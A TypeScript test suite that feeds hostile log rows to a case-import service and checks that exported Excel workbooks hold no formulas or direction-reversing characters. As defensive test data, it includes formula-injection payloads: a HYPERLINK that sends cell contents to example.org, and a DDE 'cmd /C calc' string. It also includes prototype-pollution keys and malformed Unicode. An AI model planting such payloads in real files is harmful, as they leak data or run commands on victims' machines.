import { writeFileSync } from "node:fs";
import { join } from "node:path";
import {
  type Asker,
  exportAlerts,
  exportRejected,
  type House,
  importLog,
  type Mapping,
  mappingOf,
  type OpenedFile,
  parseLocal,
  scan,
} from "@qingjian/services";
import ExcelJS from "exceljs";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { ENGINES, type Place } from "../doors/places.ts";

const CANONICAL = mappingOf("canonical") as Mapping;
const LONG = 240_000;
const LINK = '=HYPERLINK("http://example.org?"&A1,"点")';
const INSPECTOR: Asker = { userId: "ji", name: "纪检", roles: ["inspector", "lead"], scope: ["/"] };
const ADMIN: Asker = { ...INSPECTOR, userId: "guan", roles: ["admin"] };

/** A row that would be good, with something hostile in it. */
const row = (id: string, more: object): string =>
  JSON.stringify({ case: "GD-1", id, activity: "noted", at: "2026-03-02 09:30", unit: "市城管局", ...more });
const KEEPS = [
  row("1", { activity: "received", at: "2026-03-02 09:00", unit: "市热线中心" }),
  row("2", { activity: "dispatched", at: "2026-03-02 09:10", unit: "市热线中心", toUnit: LINK }),
  row("3", { text: "前\u0000后" }),
  row("4", { text: "半\ud800个" }),
  row("5", { text: "\u202e出入不实\u202c", officer: "@SUM(A1)" }),
  row("6", { "attributes.__proto__": "x", "attributes.constructor": "y", "case.toString": "z", title: "𠮷".repeat(300) }),
  row("7", { text: `-1+1|cmd' /C calc'!A0` }),
  row("8", { at: "0001-01-01 00:00" }),
  row("9", { at: "9999-12-31 23:59" }),
  '{"case":"GD-1","case":"GD-1","id":"10","id":"10","activity":"noted","at":"2026-03-02 10:00","__proto__":{"id":"11"}}',
];
const ASIDE: readonly (readonly [string, RegExp, RegExp])[] = [
  [row("a", { case: "长".repeat(201) }), /编号超过 200 个字符/, /key has more than 200/],
  [row("b".repeat(201), {}), /编号超过 200 个字符/, /key has more than 200/],
  [row("c", { unit: "局".repeat(201) }), /名称超过 200 个字符/, /name has more than 200/],
  [row("d", { text: "文".repeat(70_000) }), /有 70000 个字符，最多 65536 个/, /70000 characters, at most 65536/],
  [`{"case":"GD-1","id":"e","activity":"noted","at":"2026-03-02 09:30","sequence":1e309}`, /“1e309”过大/, /1e309” is too large/],
  [row("f", { version: "999999999999999999999999" }), /过大/, /too large/],
  [row("g", { at: `${"𠮷".repeat(150)}` }), /不合时间格式/, /is not written as/],
  [row("h", { at: "2026-02-30 09:00" }), /没有“2026-02-30 09:00”这个时间/, /no such time/],
  [row("i", { "k\u0000": "1" }), /键过长或含有不可存储的字符/, /key is too long, or holds a sign/],
  [row("j", { ["k".repeat(600)]: "1" }), /键过长或含有不可存储的字符/, /key is too long, or holds a sign/],
  ["not json at all", /不是完整的 JSON/, /not whole JSON/],
  [`[1,2]`, /不是 JSON 对象/, /no JSON object/],
  [
    `{"case":"GD-1","id":"k","activity":"noted","at":${"[".repeat(3000)}${"]".repeat(3000)}}`,
    /不合时间格式|嵌套/,
    /is not written as|nested/,
  ],
];

describe.each(ENGINES)("what is stored of hostile rows, and how it leaves the house, $engine", ({ make }) => {
  let place: Place;
  let house: House;
  const take = (name: string, lines: readonly string[]) => {
    const file = join(place.folder, name);
    writeFileSync(file, `${lines.join("\n")}\n`);
    return importLog(house, { file, mapping: CANONICAL, actor: "test" });
  };
  beforeAll(async () => {
    place = await make();
    await place.ok("migrate");
    house = await place.house(() => parseLocal("2026-06-01 09:00") as number);
  }, LONG);
  afterAll(async () => {
    await house?.close();
    await place?.remove();
  });

  test("text stays as it was written but for what cannot be stored; what cannot be used is set aside, each with its line and reason", {
    timeout: LONG,
  }, async () => {
    const imported = await take("hostile.ndjson", [...KEEPS, ...ASIDE.map(([line]) => line)]);
    expect(imported).toMatchObject({ rows: KEEPS.length + ASIDE.length, newRecords: KEEPS.length, rejected: ASIDE.length, cases: 1 });
    const said = new Map(imported.rejections.map((one) => [one.line, one]));
    for (const [nth, [, zh, en]] of ASIDE.entries()) {
      const one = said.get(KEEPS.length + nth + 1);
      expect([one?.reason.zh, one?.reason.en]).toEqual([expect.stringMatching(zh), expect.stringMatching(en)]);
      expect((one?.value ?? "").isWellFormed()).toBe(true);
    }
    const { rows } = await sql<{
      trace: string;
      title: string;
    }>`select trace::text as trace, title from cases where case_id = ${"canonical/GD-1"}`.execute(house.store.db);
    const trace = rows[0]?.trace ?? "";
    for (const kept of ["前\ufffd后", "半\ufffd个", "\u202e出入不实\u202c", "@SUM(A1)"]) expect(trace).toContain(kept);
    expect(rows[0]?.title).toBe("𠮷".repeat(300));
    expect(({} as { x?: unknown }).x).toBeUndefined();
  });

  test("a case takes no more records than a judge can bear, at once or bit by bit", { timeout: LONG }, async () => {
    const many = (from: number, count: number) =>
      Array.from({ length: count }, (_, nth) => row(`m${from + nth}`, { case: "GD-MANY", at: "2026-03-02 09:00", activity: "noted" }));
    expect(await take("many.ndjson", many(0, 5100))).toMatchObject({ rows: 5100, newRecords: 5000, rejected: 100 });
    expect(await take("more.ndjson", many(6000, 7))).toMatchObject({ rows: 7, newRecords: 0, rejected: 7, repeatedRecords: 0 });
    const { rows } = await sql<{ events: number; aside: number }>`select (select events from cases where case_id like '%GD-MANY') as events,
      (select count(*)::int from rejected_rows where reason_zh like '该办件的记录超过%') as aside`.execute(house.store.db);
    expect(rows[0]).toEqual({ events: 5000, aside: 107 });
  });

  test("it is judged, and no workbook that leaves the house holds a formula or a sign that turns writing round", {
    timeout: LONG,
  }, async () => {
    await scan(house);
    const alerts = await textsIn(await exportAlerts(house, INSPECTOR));
    expect(alerts).toContain(LINK);
    const { rows } = await sql<{ id: string }>`select id from batches where file = 'hostile.ndjson'`.execute(house.store.db);
    const rejected = await textsIn(await exportRejected(house, ADMIN, rows[0]?.id ?? ""));
    expect(rejected.some((text) => text.includes("不是完整的 JSON"))).toBe(true);
    const { rows: faults } = await sql`select 1 from audit_entries where action like '%fault%'`.execute(house.store.db);
    expect(faults).toEqual([]);
  });
});

/** Every text of a workbook; fails where a cell is a formula or a link, or holds what may not be shown. */
async function textsIn({ bytes }: OpenedFile): Promise<string[]> {
  const parts: Uint8Array[] = [];
  for await (const part of bytes) parts.push(part);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(Buffer.concat(parts).buffer as ArrayBuffer);
  const texts: string[] = [];
  for (const sheet of book.worksheets)
    sheet.eachRow((cells) =>
      cells.eachCell((cell) => {
        expect([cell.address, cell.formula, cell.hyperlink]).toEqual([cell.address, undefined, undefined]);
        if (typeof cell.value === "string") texts.push(cell.value);
      }),
    );
  // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what is looked for.
  expect(texts.filter((text) => /[\u0000-\u0008\u202a-\u202e\u2066-\u2069]/.test(text))).toEqual([]);
  return texts;
}
